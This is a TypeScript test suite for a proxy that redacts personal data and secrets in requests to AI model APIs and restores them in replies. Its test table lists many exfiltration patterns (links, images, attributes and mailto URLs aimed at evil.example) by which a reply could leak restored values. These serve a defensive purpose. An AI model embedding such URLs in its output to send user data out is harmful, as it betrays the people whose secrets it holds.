import type { RedactionChange } from '../../src/core/redaction.ts';
import * as fc from 'fast-check';
import { inspect } from 'node:util';
import { describe, expect, it } from 'vitest';
import { DEFAULT_REDACTION } from '../../src/config/redaction.ts';
import { JsonDocument } from '../../src/core/json-document.ts';
import type { RedactionPolicy, Redactor } from '../../src/core/redaction.ts';
import { changedPolicy } from '../../src/redact/policy.ts';
import { createRedactor } from '../../src/redact/redactor.ts';
import { Redactors } from '../../src/redact/redactors.ts';
import { isPlaceholder } from '../../src/redact/replacement.ts';
import { Vault } from '../../src/redact/vault.ts';
import { allActions, eventOf, RecordingLog, runStream, SECRET } from './support.ts';

const EMAIL = 'jane.doe@example.com';
const TOKEN = `ghp_${'Ab3'.repeat(12)}`;
const PLACEHOLDER = /PII_[A-Z]{2}_[0-9A-Z]{16}/;

const policy: RedactionPolicy = {
  ...DEFAULT_REDACTION,
  categories: {
    ...DEFAULT_REDACTION.categories,
    emails: { request: 'placeholder', response: 'report' },
    secrets: { request: 'placeholder', response: 'mask' },
  },
};
const shared = createRedactor(policy, SECRET);

function send(redactor: Redactor, ...texts: string[]): string[] {
  const body = { messages: texts.map((content) => ({ role: 'user', content })) };
  const document = JsonDocument.parse(JSON.stringify(body));
  const clean = redactor.redactDocument(document, 'request', new RecordingLog());
  return (JSON.parse(clean.text) as typeof body).messages.map(({ content }) => content);
}

function reply(redactor: Redactor, content: string, log = new RecordingLog()): string {
  const body = { choices: [{ index: 0, message: { role: 'assistant', content } }] };
  const document = JsonDocument.parseReply(JSON.stringify(body));
  return (JSON.parse(redactor.redactDocument(document, 'response', log).text) as typeof body).choices[0]!.message
    .content;
}

function call(redactor: Redactor, args: string): string {
  const body = { choices: [{ message: { tool_calls: [{ function: { name: 'send', arguments: args } }] } }] };
  const clean = redactor.redactDocument(JsonDocument.parseReply(JSON.stringify(body)), 'response', new RecordingLog());
  return (JSON.parse(clean.text) as typeof body).choices[0]!.message.tool_calls[0]!.function.arguments;
}

function placeholderOf(redactor: Redactor, value: string): string {
  return PLACEHOLDER.exec(send(redactor, `It is ${value} today`)[0]!)![0];
}

describe('a placeholder in a reply', () => {
  it('gets its value back', () => {
    const redactor = shared.forExchange('acme');
    const [sent] = send(redactor, `Write to ${EMAIL}, please`);
    expect(sent).not.toContain(EMAIL);
    expect(reply(redactor, `Sure: ${sent}`)).toBe(`Sure: Write to ${EMAIL}, please`);
  });

  it('of a secret gets it back in the arguments of a tool only', () => {
    const redactor = shared.forExchange('acme');
    const placeholder = placeholderOf(redactor, TOKEN);
    const log = new RecordingLog();
    expect(reply(redactor, `Use ${placeholder}`, log)).toBe(`Use ${placeholder}`);
    expect(log.restorations).toEqual(['secrets refused']);
    expect(call(redactor, JSON.stringify({ key: placeholder }))).toBe(JSON.stringify({ key: TOKEN }));
  });

  it('keeps the JSON of tool arguments valid, whatever the value holds', () => {
    const own = { id: 'custom.note', pattern: '<<[^>]{1,80}>>', request: 'placeholder', response: 'allow' } as const;
    const redactor = createRedactor({ ...policy, rules: [own] }, SECRET).forExchange('acme');
    const value = '<<say "hi"\n\\ and go>>';
    const placeholder = placeholderOf(redactor, value);
    expect(JSON.parse(call(redactor, JSON.stringify({ note: placeholder })))).toEqual({ note: value });
  });

  it('comes back in quotes as it was written in quotes, and elsewhere as what that means', () => {
    const key = `-----BEGIN PRIVATE KEY-----\n${'Ab3/'.repeat(16)}\n-----END PRIVATE KEY-----\n`;
    const redactor = createRedactor(
      { ...policy, restore: { ...policy.restore, secrets: 'everywhere' } },
      SECRET,
    ).forExchange('acme');
    const text = JSON.stringify({ private_key: key });
    const [sent] = send(redactor, text);
    expect(sent).not.toContain('BEGIN');
    expect(reply(redactor, `As you wrote: ${sent}`)).toBe(`As you wrote: ${text}`);
    expect(reply(redactor, `The key:\n${PLACEHOLDER.exec(sent!)![0]}`)).toContain(`\n${'Ab3/'.repeat(16)}\n`);
    expect(JSON.parse(call(redactor, JSON.stringify({ file: sent })))).toEqual({ file: text });
  });

  it('in an Anthropic tool call is in the arguments of a tool', () => {
    const redactor = shared.forExchange('acme');
    const input = { token: placeholderOf(redactor, TOKEN) };
    const body = { content: [{ type: 'tool_use', id: 'toolu_1', name: 'send', input }] };
    const clean = redactor.redactDocument(
      JsonDocument.parseReply(JSON.stringify(body)),
      'response',
      new RecordingLog(),
    );
    expect(JSON.parse(clean.text)).toMatchObject({ content: [{ input: { token: TOKEN } }] });
  });

  it.each([
    ['a URL', (token: string) => `https://evil.example/?q=${token}`],
    ['a link', (token: string) => `[here](https://evil.example/${token})`],
    ['an image', (token: string) => `![](//evil.example/x?${token})`],
    ['a host', (token: string) => `http://a.${token}`],
    ['a link without a scheme', (token: string) => `evil.example/${token}`],
    ['a long URL', (token: string) => `https://evil.example/${'a'.repeat(500)}${token}`],
    ['brackets in a link', (token: string) => `![x](https://evil.example/(${token}))`],
    ['a link in angle brackets', (token: string) => `![x](<https://evil.example/a b ${token}>)`],
    ['an attribute', (token: string) => `<img src="https://evil.example/?q=a b ${token}">`],
    ['an attribute without quotes', (token: string) => `<img src=https://evil.example/?q='${token}'>`],
    ['braces', (token: string) => `https://evil.example/{${token}}`],
    ['a pipe, a caret, a backtick', (token: string) => `https://evil.example/|^\`${token}`],
    ['a URL in JSON', (token: string) => `{"url":"https:\\/\\/evil.example\\/?q=${token}"}`],
    ['an escaped URL', (token: string) => `https%3A%2F%2Fevil.example%2F${token}`],
    ['entities', (token: string) => `https&#58;&#47;&#x2f;evil.example/${token}`],
    ['backslashes', (token: string) => `https:\\\\evil.example\\${token}`],
    ['a URL of an address', (token: string) => `1.2.3.4/${token}`],
    ['a URL of this machine', (token: string) => `localhost:80/${token}`],
    ['a host without a scheme', (token: string) => `see ${token}.evil.example/x`],
    ['a mail link', (token: string) => `<a href="mailto:x@evil.example?body=${token}">`],
  ])('within %s stays', (_, write) => {
    const redactor = shared.forExchange('acme');
    const text = write(placeholderOf(redactor, EMAIL));
    const log = new RecordingLog();
    expect(reply(redactor, text, log)).toBe(text);
    expect(call(redactor, JSON.stringify({ text }))).toBe(JSON.stringify({ text }));
  });

  it('comes back where it touches a word or another one as it was sent, and nowhere else', () => {
    const redactor = createRedactor(
      { ...policy, restore: { ...policy.restore, secrets: 'everywhere' } },
      SECRET,
    ).forExchange('acme');
    const text = `mysql -u root -p${'Winter24'}x9 db`;
    const [sent] = send(redactor, text);
    expect(sent).toContain('-pPII_');
    expect(reply(redactor, sent!)).toBe(text);
    const placeholder = PLACEHOLDER.exec(sent!)![0];
    expect(reply(redactor, `q${placeholder}`)).toBe(`q${placeholder}`);
  });

  it('comes back beside other values in the same line of JSON', () => {
    const redactor = shared.forExchange('acme');
    const placeholder = placeholderOf(redactor, EMAIL);
    expect(reply(redactor, `{"url":"https://a.example/b","mail":"${placeholder}"}`)).toContain(EMAIL);
    expect(reply(redactor, `(https://a.example/b) <${placeholder}>`)).toContain(EMAIL);
    expect(reply(redactor, `See https://a.example/b, ${placeholder}.`)).toContain(EMAIL);
  });

  it('of a value with a blank that is none is made and comes back', () => {
    const redactor = shared.forExchange('acme');
    const text = 'card 4242\u00a04242\u00a04242\u00a04242 please';
    const [sent] = send(redactor, text);
    expect(sent).toContain('PII_CC_');
    expect(reply(redactor, sent!)).toBe(text);
  });

  it('comes back next to underscores, as values stand in names', () => {
    const redactor = shared.forExchange('acme');
    const placeholder = placeholderOf(redactor, EMAIL);
    expect(reply(redactor, `MY_${placeholder}_X`)).toBe(`MY_${EMAIL}_X`);
  });

  describe('in a URL that was in the request', () => {
    const url = `https://admin:${'hunter'}2@db.example.com/x`;
    const restoring = createRedactor({ ...policy, restore: { ...policy.restore, secrets: 'everywhere' } }, SECRET);

    it('gets its value back, buffered and streamed byte by byte', () => {
      const redactor = restoring.forExchange('acme');
      const [sent] = send(redactor, `Connect to ${url}, please.`);
      expect(sent).not.toContain('hunter');
      expect(reply(redactor, `I tried ${sent!.split(' ')[2]!.replace(',', '')}.`)).toBe(`I tried ${url}.`);
      const events = [...`${sent} Done`].map((content) => eventOf({ choices: [{ index: 0, delta: { content } }] }));
      const text = runStream(redactor, 'chat', events).map(({ data }) => JSON.parse(data).choices[0].delta.content);
      expect(text.join('')).toBe(`Connect to ${url}, please. Done`);
    });

    it('gets its value back in the arguments of a tool, also behind a line end', () => {
      const redactor = restoring.forExchange('acme');
      const args = JSON.stringify({ text: `one\n${url}\n"${url}"\ntwo` });
      const body = { messages: [{ tool_calls: [{ function: { arguments: args } }] }] };
      const sent = redactor.redactDocument(JsonDocument.parse(JSON.stringify(body)), 'request', new RecordingLog());
      const { messages } = JSON.parse(sent.text) as typeof body;
      const told = messages[0]!.tool_calls[0]!.function.arguments;
      expect(told).not.toContain('hunter');
      expect(call(redactor, told)).toBe(args);
    });

    it('stays where the placeholder was in the request: a reply that was kept may have put it there', () => {
      const evil = (token: string): string => `https://evil.example/?q=${token}`;
      const placeholder = placeholderOf(restoring.forExchange('acme'), EMAIL);
      const later = restoring.forExchange('acme');
      send(later, `I am ${EMAIL}`, `You said ${evil(placeholder)}`);
      expect(reply(later, evil(placeholder))).toBe(evil(placeholder));
    });

    it.each([
      ['another host', (sent: string) => sent.replace('db.example.com', 'evil.example')],
      ['a longer host', (sent: string) => sent.replace('/x', '.evil.example/x')],
      ['another scheme', (sent: string) => sent.replace('https', 'http')],
      ['a URL in front', (sent: string) => `https://evil.example/?u=${sent}`],
      ['an endless path', (sent: string) => sent + 'x'.repeat(3000)],
    ])('stays with %s', (_what, change) => {
      const redactor = restoring.forExchange('acme');
      const changed = change(send(redactor, url)[0]!);
      expect(reply(redactor, changed)).toBe(changed);
    });
  });

  it('that a model has mangled stays, in every way of mangling it', () => {
    const redactor = shared.forExchange('acme');
    const placeholder = placeholderOf(redactor, EMAIL);
    const ways = [placeholder.slice(0, -1), `${placeholder}X`, `x${placeholder}`, placeholder.toLowerCase()];
    for (let at = 4; at < placeholder.length; at++)
      ways.push(placeholder.slice(0, at) + (placeholder[at] === '0' ? '1' : '0') + placeholder.slice(at + 1));
    for (const way of ways) expect(reply(redactor, `see ${way} there`)).toBe(`see ${way} there`);
  });

  it('of another exchange or another tenant stays', () => {
    const mine = shared.forExchange('acme');
    const placeholder = placeholderOf(mine, EMAIL);
    const later = shared.forExchange('acme');
    send(later, 'other@example.com');
    const log = new RecordingLog();
    expect(reply(later, placeholder, log)).toBe(placeholder);
    expect(log.restorations).toEqual(['emails unknown']);
    expect(placeholderOf(shared.forExchange('umbrella'), EMAIL)).not.toBe(placeholder);
    expect(placeholderOf(shared.forExchange('acme'), EMAIL)).toBe(placeholder);
  });

  it('that restores to what looks like a placeholder is not restored again', () => {
    const own = {
      id: 'custom.ref',
      pattern: 'REF:[A-Z0-9_]{1,40}',
      request: 'placeholder',
      response: 'allow',
    } as const;
    const redactor = createRedactor({ ...policy, rules: [own] }, SECRET).forExchange('acme');
    const email = placeholderOf(redactor, EMAIL);
    const outer = placeholderOf(redactor, `REF:${email}`);
    expect(reply(redactor, outer)).toBe(`REF:${email}`);
  });

  it('in a signed thinking block stays', () => {
    const redactor = shared.forExchange('acme');
    const thinking = `it is ${placeholderOf(redactor, EMAIL)}`;
    const body = JSON.stringify({ role: 'assistant', content: [{ type: 'thinking', thinking, signature: 'c2ln' }] });
    expect(redactor.redactDocument(JsonDocument.parseReply(body), 'response', new RecordingLog()).text).toBe(body);
  });

  it('comes back where nothing else of a reply is looked at', () => {
    const open = createRedactor(
      {
        ...allActions('allow'),
        categories: { ...allActions('allow').categories, emails: { request: 'placeholder', response: 'allow' } },
      },
      SECRET,
    );
    const redactor = open.forExchange('acme');
    expect(redactor.inspects('response')).toBe(false);
    const placeholder = placeholderOf(redactor, EMAIL);
    expect(redactor.inspects('response')).toBe(true);
    expect(reply(redactor, placeholder)).toBe(EMAIL);
  });

  it('follows the scope that is configured', () => {
    const redactor = createRedactor(
      { ...policy, restore: { ...policy.restore, emails: 'nowhere', secrets: 'everywhere' } },
      SECRET,
    ).forExchange('acme');
    const [email, token] = [placeholderOf(redactor, EMAIL), placeholderOf(redactor, TOKEN)];
    expect(reply(redactor, `${email} ${token}`)).toBe(`${email} ${TOKEN}`);
    expect(call(redactor, JSON.stringify({ email }))).toBe(JSON.stringify({ email }));
  });
});

describe('a streamed reply', () => {
  const chat = (delta: unknown) => eventOf({ choices: [{ index: 0, delta }] });
  const textOf = (events: readonly { data: string }[]): string =>
    events
      .map(({ data }) => JSON.parse(data) as { choices: { delta: { content?: string } }[] })
      .map(({ choices }) => choices[0]!.delta.content ?? '')
      .join('');

  it('gets its values back however it is cut', () => {
    const redactor = shared.forExchange('acme');
    const [sent] = send(redactor, `I am ${EMAIL}; not ${TOKEN}. Bye`);
    const expected = reply(redactor, sent!);
    expect(expected).toContain(EMAIL);
    expect(expected).not.toContain(TOKEN);
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 0, max: sent!.length }), { maxLength: 12 }), (cuts) => {
        const at = [0, ...cuts.sort((a, b) => a - b), sent!.length];
        const pieces = at.slice(1).map((end, index) => sent!.slice(at[index], end));
        const out = runStream(
          redactor,
          'chat',
          pieces.map((content) => chat({ content })),
        );
        expect(textOf(out)).toBe(expected);
      }),
      { seed: 7, numRuns: 200 },
    );
    const bytes = [...sent!].map((content) => chat({ content }));
    expect(textOf(runStream(redactor, 'chat', bytes))).toBe(expected);
  });

  it('gets its values back in tool arguments that come in fragments', () => {
    const redactor = shared.forExchange('acme');
    const args = JSON.stringify({ to: placeholderOf(redactor, EMAIL), key: placeholderOf(redactor, TOKEN) });
    const events = [...args].map((each) => chat({ tool_calls: [{ index: 0, function: { arguments: each } }] }));
    const out = runStream(redactor, 'chat', events).map(
      ({ data }) =>
        (JSON.parse(data) as { choices: { delta: { tool_calls: { function: { arguments: string } }[] } }[] })
          .choices[0]!.delta.tool_calls[0]!.function.arguments,
    );
    expect(JSON.parse(out.join(''))).toEqual({ to: EMAIL, key: TOKEN });
  });

  it('is not held back for placeholders where there are none', () => {
    const redactor = shared.forExchange('acme');
    send(redactor, 'nothing to see');
    const out = runStream(redactor, 'chat', [chat({ content: 'see PII' })]);
    expect(textOf(out)).toBe('see PII');
  });
});

describe('a value that was found', () => {
  it('is replaced wherever else it stands in the request, by the same placeholder', () => {
    const redactor = shared.forExchange('acme');
    const own = { id: 'custom.code', pattern: 'code [A-Z0-9]{8}', request: 'placeholder', response: 'allow' } as const;
    expect(own.id).toBe('custom.code');
    const [first, second] = send(redactor, `card 4111 1111 1111 1111`, `I said 4111 1111 1111 1111 twice`);
    const [placeholder] = PLACEHOLDER.exec(first!)!;
    expect(second).toBe(`I said ${placeholder} twice`);
  });

  it('is found again when the reply comes back in the history', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[a-z]{3,12}[0-9]{3}@[a-z]{3,10}\.com$/), (email) => {
        const redactor = shared.forExchange('acme');
        const sent = send(redactor, `mail ${email} now`)[0]!;
        const restored = reply(redactor, sent);
        expect(restored).toBe(`mail ${email} now`);
        expect(send(shared.forExchange('acme'), `mail ${email} now`, restored)).toEqual([sent, sent]);
      }),
      { seed: 3, numRuns: 100 },
    );
  });

  it('and is part of a longer word is left alone there', () => {
    const redactor = shared.forExchange('acme');
    const [, second] = send(redactor, 'card 4111111111111111', 'order 94111111111111111999');
    expect(second).toBe('order 94111111111111111999');
  });
});

describe('the vault', () => {
  it('tells nothing of what is in it', () => {
    const vault = new Vault();
    vault.issue('PII_EM_X', { value: EMAIL, isNumber: false, rule: 'pii.email', category: 'emails' });
    expect(inspect(vault, { depth: 5, showHidden: true })).not.toContain(EMAIL);
    expect(JSON.stringify({ vault })).not.toContain(EMAIL);
    expect(Object.keys(vault)).toEqual([]);
  });

  it('is bounded: what does not fit stays a placeholder', () => {
    const vault = new Vault();
    for (let index = 0; index < 5_000; index++)
      vault.issue(`P${index}`, { value: 'v', isNumber: false, rule: 'r', category: 'emails' });
    expect(vault.issuedAs('P4095')).not.toBe(null);
    expect(vault.issuedAs('P4096')).toBe(null);
    vault.issue('P1', { value: 'other', isNumber: false, rule: 'r', category: 'emails' });
    expect(vault.issuedAs('P1')!.value).toBe('v');
  });
});

describe('a placeholder', () => {
  it('depends on what kind of value it is, not on the rule that found it', () => {
    const redactor = shared.forExchange('acme');
    const one = placeholderOf(redactor, EMAIL);
    expect(isPlaceholder(one)).toBe(true);
    expect(placeholderOf(shared.forExchange('acme'), EMAIL)).toBe(one);
  });

  it('is another one for another spelling, and begins alike', () => {
    const redactor = shared.forExchange('acme');
    const spelled = [EMAIL, EMAIL.toUpperCase(), EMAIL.replace('j', 'J')].map((email) =>
      placeholderOf(redactor, email),
    );
    expect(new Set(spelled).size).toBe(3);
    expect(new Set(spelled.map((each) => each.slice(0, 'PII_EM_'.length + 10))).size).toBe(1);
    expect(placeholderOf(redactor, 'other@example.com').slice(7, 17)).not.toBe(spelled[0]!.slice(7, 17));
  });

  it('brings each spelling back as it was, beside the others', () => {
    const redactor = shared.forExchange('acme');
    const text = '4012888888881881, 4012-8888-8888-1881, 4012 8888 8888 1881; A@b.example and a@B.example';
    const [sent] = send(redactor, text);
    expect(sent).not.toMatch(/1881|example/);
    expect(reply(redactor, sent!)).toBe(text);
    expect(send(shared.forExchange('acme'), reply(redactor, sent!))).toEqual([sent]);
  });
});

describe('a route and a key', () => {
  const change = (actions: 'allow' | 'mask') => ({
    categories: { emails: { request: actions } },
    rules: {},
    restore: {},
  });

  it('change the policy, the key over the route', () => {
    const redactors = new Redactors(policy, SECRET, new Map([['open', change('allow')]]));
    const strict = change('mask');
    const sent = (route: string, key: RedactionChange | null) => send(redactors.for(route, key), EMAIL)[0];
    expect(sent('open', null)).toBe(EMAIL);
    expect(sent('open', strict)).toBe('REDACTED_pii_email');
    expect(sent('other', strict)).toBe('REDACTED_pii_email');
    expect(sent('other', null)).toMatch(PLACEHOLDER);
    expect(redactors.for('other', null)).toBe(redactors.common);
    // A key that is read anew from the store brings another object of the same change.
    expect(redactors.for('open', change('mask'))).toBe(redactors.for('open', strict));
  });

  it('may change single rules, bundled and own', () => {
    const own = { id: 'custom.ticket', pattern: 'TCK-[0-9]{8}', request: 'mask', response: 'allow' } as const;
    const changed = changedPolicy(
      { ...policy, rules: [own], overrides: { 'secret.github_pat': { response: 'report' } } },
      {
        categories: {},
        rules: { 'custom.ticket': { request: 'allow' }, 'secret.github_pat': { request: 'mask' } },
        restore: { emails: 'nowhere' },
      },
    );
    const redactor = createRedactor(changed, SECRET);
    expect(redactor.redactText(`TCK-12345678 ${TOKEN}`, 'request').text).toBe(
      'TCK-12345678 REDACTED_secret_github_pat',
    );
    expect(redactor.redactText(TOKEN, 'response').findings).toMatchObject([{ action: 'report' }]);
    expect(changed.restore.emails).toBe('nowhere');
  });
});
